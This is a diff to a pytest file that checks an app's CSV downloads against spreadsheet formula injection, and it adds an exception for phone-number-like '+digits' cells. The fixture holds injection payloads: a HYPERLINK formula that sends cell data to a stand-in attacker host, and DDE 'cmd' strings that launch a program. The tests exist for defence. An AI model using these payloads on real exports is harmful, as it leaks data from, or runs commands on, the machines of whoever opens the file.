@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import timedelta
 from pathlib import Path
 
@@ -22,6 +23,7 @@ ROOT = Path(__file__).resolve().parents[2]
 HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3*cmd|' /C calc'!A0"]
 STARTS_A_FORMULA = tuple("=+-@\t\r")
+PLAIN_NUMBER = re.compile(r"\+[0-9]+")
 
 
 @pytest.fixture
@@ -113,7 +115,9 @@ def test_every_csv_download_of_the_app_is_checked_here(app):
 @pytest.mark.parametrize("endpoint", sorted(DOWNLOADS))
 def test_no_cell_of_a_csv_download_starts_a_formula(signed_in, acme, renewals, endpoint):
     written = cells(DOWNLOADS[endpoint](signed_in, acme, renewals))
-    assert [cell for cell in written if cell.startswith(STARTS_A_FORMULA)] == []
+    # A cell that is exactly `+` and digits (a phone number) runs nothing and stays as it is.
+    risky = [cell for cell in written if cell.startswith(STARTS_A_FORMULA)]
+    assert [cell for cell in risky if not PLAIN_NUMBER.fullmatch(cell)] == []
     for formula in FORMULAS:  # each value is there, guarded
         assert "'" + formula in written, (endpoint, formula)
 
